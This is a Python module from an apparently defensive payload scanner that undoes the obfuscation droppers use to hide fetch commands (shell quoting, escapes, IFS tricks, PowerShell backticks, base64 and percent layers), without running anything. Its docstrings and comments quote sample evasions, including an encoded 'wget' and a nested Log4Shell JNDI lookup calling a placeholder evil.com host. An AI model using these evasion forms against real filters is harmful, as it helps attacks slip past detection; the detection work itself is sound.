# SPDX-License-Identifier: MIT
"""Undo the tricks payloads use to hide a fetch command from filters, without running anything.

Droppers hide ``wget`` from WAFs and IDS signatures with shell syntax that a shell would
undo (``'w'g'e't``, ``\\w\\g\\e\\t``, ``${IFS}``, ``$(echo d2dldA== | base64 -d)``,
``{wget,http://x/a}``), with C and JSON escapes (``\\x77``, ``\\u0077``, ``\\/``), with
Log4Shell lookups (``${${lower:j}ndi:...}``), with PowerShell backticks and string
concatenation, and with encodings (percent, base64, PowerShell's UTF-16LE ``-enc``).
:func:`deobfuscate` rewrites one text the way those would be read; :func:`percent_decoded`
and :func:`encoded_blobs` find the encoded layers, which the extractor scans as texts of
their own.

Every pattern here is a literal prefix plus bounded character-class runs, so matching is
linear in the input (no nested quantifiers that could backtrack catastrophically); every
loop has a fixed bound.
"""

from __future__ import annotations

import base64
import binascii
import itertools
import re
from collections.abc import Iterator

__all__ = ["decode_text", "deobfuscate", "encoded_blobs", "percent_decoded"]

MAX_BLOBS = 16  # encoded blobs decoded per text
MAX_INLINE = 64  # inline rewrites (echo ... | base64 -d) per text
MIN_BLOB = 16  # shorter base64-looking words are ordinary words

_CONTINUATION = re.compile(r"\\\r?\n")
_ESCAPE = re.compile(r"\\(?:x([0-9a-fA-F]{2})|u([0-9a-fA-F]{4})|([0-3][0-7]{2})|(/))")
_BACKSLASH_RUN = re.compile(r"\\[A-Za-z0-9](?:\\[A-Za-z0-9]){1,63}")
_BACKSLASH_WS = re.compile(r"\\[nrt]")
_LOG4J = re.compile(r"\$\{(?:(lower|upper):|::-|[a-zA-Z]{1,16}:[^${}:]{0,32}:-|date:')([^${}']{0,16})'?\}")
_LOG4J_DATA = re.compile(
    r"\$\{(?:hostName|(?:env|sys|java|main|bundle|ctx|docker|k8s|spring|web|jvmrunargs|marker|map|sd|event)"
    r":[^${}]{1,64})\}"
)
_IFS = re.compile(r"\$(?:\{IFS[^}\s]{0,16}\}|IFS(?:\$[0-9]|\$\{[0-9]\})?)")
_POSITIONAL = re.compile(r"\$(?:\{[0-9@*]\}|[0-9@*])")
_PS_TICK = re.compile(r"`(?<=[A-Za-z]`)(?=[A-Za-z])")
_CONCAT = re.compile(r"(['\"])[ \t]{0,8}\+[ \t]{0,8}\1")
_SHORT_QUOTED = re.compile(r"(['\"])([^'\"\s]{0,8})\1")
_ECHO_B64_CORE = (
    r"(?:\becho|\bprintf)[ \t]{1,8}(?:-[neE]{1,3}[ \t]{1,8})?(['\"]?)([A-Za-z0-9+/=]{4,1048576})\1[ \t]{0,8}\|"
    r"[ \t]{0,8}(?:base64[ \t]{1,8}(?:-d|--decode|-D|-di)|openssl[ \t]{1,8}(?:enc[ \t]{1,8})?-?base64[ \t]{1,8}-d)"
)
_ECHO_B64 = re.compile(r"(?i)" + _ECHO_B64_CORE + r"\b")
# $(echo d2dldA== | base64 -d) used as a word (the command name): decoded in place, so it joins its arguments.
_SUBST_B64 = re.compile(r"(?i)(?:\$\(|`)[ \t]{0,8}" + _ECHO_B64_CORE + r"[ \t]{0,8}[)`]")
_HERE_B64 = re.compile(
    r"(?i)\bbase64[ \t]{1,8}(?:-d|--decode|-D)[ \t]{0,8}<<<[ \t]{0,8}(['\"]?)([A-Za-z0-9+/=]{4,1048576})\1"
)
_ECHO_SUBST = re.compile(
    r"\$\([ \t]{0,8}(?:echo|printf)[ \t]{1,8}(?:-[neE]{1,3}[ \t]{1,8})?(['\"]?)([^'\"()`$\n]{1,64})\1[ \t]{0,8}\)"
)
_WORD_SUBST = re.compile(r"\$\([ \t]{0,8}([\w./-]{1,32})[ \t]{0,8}\)|`([\w./-]{1,32})`")
_BRACES = re.compile(r"\{([\w./-][^{}\s,]{0,255}(?:,[^{}\s,]{0,1024}){1,16})\}")
_PERCENT = re.compile(r"%[0-9A-Fa-f]{2}")
_PCT_RUN = re.compile(r"(?:%[0-9A-Fa-f]{2}){1,4096}")
_PLUS = re.compile(r"\+[A-Za-z0-9/.$-]")
# A maximal run of base64 (standard or URL-safe) characters; validated in Python, not by the regex.
_B64_RUN = re.compile(r"[A-Za-z0-9+/=_-]{16,1048576}")
_PS_ENC = re.compile(r"(?i)(?<![\w-])-e[a-z]{0,13}[ \t]{1,8}(['\"]?)([A-Za-z0-9+/=]{8,1048576})")
_BINARY = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffd]")  # not in text
_FROM_B64 = re.compile(r"(?i)frombase64string\([ \t]{0,8}(['\"])([A-Za-z0-9+/=]{8,1048576})")


def decode_text(data: bytes) -> str | None:
    """``data`` as text if it is text (UTF-8 or UTF-16LE, mostly printable), else ``None``."""
    if len(data) >= 4 and data[1::2].count(0) >= len(data) // 2 * 0.9:
        try:
            text = data.decode("utf-16-le")
        except UnicodeDecodeError:
            return None
    else:
        try:
            text = data.decode("utf-8")
        except UnicodeDecodeError:
            return None
    if not text:
        return None
    binary = len(_BINARY.findall(text))  # C speed; a decoded megabyte is not walked in Python
    return text if binary <= len(text) * 0.05 else None


def _b64(s: str) -> bytes | None:
    s = s.rstrip("=")
    if len(s) % 4 == 1:
        s = s[:-1]
    s += "=" * (-len(s) % 4)
    try:
        if "-" in s or "_" in s:
            return base64.urlsafe_b64decode(s) if "+" not in s and "/" not in s else None
        return base64.b64decode(s, validate=True)
    except (binascii.Error, ValueError):
        return None


def _inline_b64(m: re.Match[str]) -> str:
    data = _b64(m.group(2))
    text = decode_text(data) if data else None
    return f" {text} " if text is not None else m.group(0)


def _escape(m: re.Match[str]) -> str:
    hex2, hex4, octal, slash = m.groups()
    if slash:
        return "/"
    code = int(hex2 or hex4, 16) if (hex2 or hex4) else int(octal, 8)
    return "\ufffd" if 0xD800 <= code <= 0xDFFF else chr(code)  # a lone surrogate cannot be encoded


def _second(m: re.Match[str]) -> str:
    return m.group(2)  # a callable: a "\\2" template is expanded in Python per match, 3x slower


def _log4j(m: re.Match[str]) -> str:
    fn, value = m.group(1), m.group(2)
    return value.lower() if fn == "lower" else value.upper() if fn == "upper" else value


def _braces(m: re.Match[str]) -> str:
    at = m.start()
    if at and (m.string[at - 1].isalnum() or m.string[at - 1] in "_$"):
        return m.group(0)  # ${a,b} or f{a,b}: not a brace expansion at a word's start
    return " ".join(m.group(1).split(","))


def _unpct(m: re.Match[str]) -> str:
    return bytes.fromhex(m.group(0).replace("%", "")).decode("utf-8", "surrogateescape")


def _pass(text: str) -> str:
    # Each rewrite runs only when its trigger character is present: a plain 1 MiB body costs a few scans.
    if "\\" in text:
        text = _CONTINUATION.sub("", text)
        text = _ESCAPE.sub(_escape, text)
        text = _BACKSLASH_RUN.sub(lambda m: m.group(0).replace("\\", ""), text)
        text = _BACKSLASH_WS.sub(" ", text)  # \n, \t, \r left by echo -e / printf strings
        text = text.replace("\\", "")  # any other \X is X to the shell
    if "$" in text:
        for _ in range(4 if "${" in text else 0):  # nested lookups: ${${lower:j}${::-n}di:...}
            new = _LOG4J.sub(_log4j, text)
            if new == text:
                break
            text = new
        if "${" in text and "jndi" in text.lower():
            text = _LOG4J_DATA.sub("x", text)  # ${jndi:ldap://${hostName}.evil.com/a}: keep the callback host
        if "IFS" in text:
            text = _IFS.sub(" ", text)
        text = _POSITIONAL.sub("", text)
    if "`" in text:
        text = _PS_TICK.sub("", text)
    if "'" in text or '"' in text:
        if "+" in text:
            text = _CONCAT.sub("", text)
        text = _SHORT_QUOTED.sub(_second, text)
    if "$(" in text or "`" in text:
        if "base64" in text:
            text = _SUBST_B64.sub(_inline_b64, text, count=MAX_INLINE)
        text = _ECHO_SUBST.sub(_second, text)
        text = _WORD_SUBST.sub(lambda m: m.group(1) or m.group(2), text)
    if "{" in text and "," in text:
        text = _BRACES.sub(_braces, text)
    return text


def deobfuscate(text: str) -> str:
    """``text`` with shell, escape and lookup obfuscation undone (twice: decoding reveals more)."""
    once = _pass(text)
    return _pass(once) if once != text else once


def percent_decoded(text: str) -> str | None:
    """``text`` percent- and plus-decoded (as a query string is), or ``None`` if nothing changes."""
    plus = any(m.start() and m.string[m.start() - 1].isalnum() for m in itertools.islice(_PLUS.finditer(text), 64))
    if not plus and not _PERCENT.search(text):
        return None
    decoded = _PCT_RUN.sub(_unpct, text.replace("+", " ") if plus else text)
    return decoded if decoded != text else None


def encoded_blobs(text: str) -> Iterator[tuple[int, str, str]]:
    """``(position, decoded text, encoding)`` for each base64 layer in ``text`` that decodes to text.

    PowerShell's ``-EncodedCommand`` and ``FromBase64String`` are UTF-16LE or UTF-8; other runs
    of base64 characters (``echo <b64> | base64 -d``, a JNDI exploit kit's ``/Base64/<b64>``
    path) are tried whole and, when that fails, by their ``/``-separated parts.
    """
    found = 0
    seen: set[int] = set()
    low = text.lower()
    explicit = (
        (_PS_ENC, "powershell-enc", "powershell" in low or "pwsh" in low),
        (_FROM_B64, "base64", "frombase64string" in low),
        (_ECHO_B64, "base64", "base64" in low),
        (_HERE_B64, "base64", "<<<" in text),
    )
    for rx, via, present in explicit:
        for m in rx.finditer(text) if present else ():
            data = _b64(m.group(2))
            decoded = decode_text(data) if data else None
            if decoded is not None:
                seen.add(m.start(2))
                found += 1
                yield m.start(2), decoded, via
                if found >= MAX_BLOBS:
                    return
    tries = 0
    for m in _B64_RUN.finditer(text):
        if m.start() in seen:
            continue
        run = m.group(0)
        parts = [(m.start(), run)]
        if "/" in run:
            offset = m.start()
            for part in run.split("/"):
                if len(part) >= MIN_BLOB:
                    parts.append((offset, part))
                offset += len(part) + 1
        for pos, part in parts[:8]:
            tries += 1
            if tries > 8 * MAX_BLOBS:
                return
            stripped = part.rstrip("=")
            if stripped.isalpha() or stripped.isdigit():
                continue  # a word or a number, not an encoding
            data = _b64(part)
            decoded = decode_text(data) if data and len(data) >= 8 else None
            if decoded is not None:
                found += 1
                yield pos, decoded, "base64"
                if found >= MAX_BLOBS:
                    return
                break
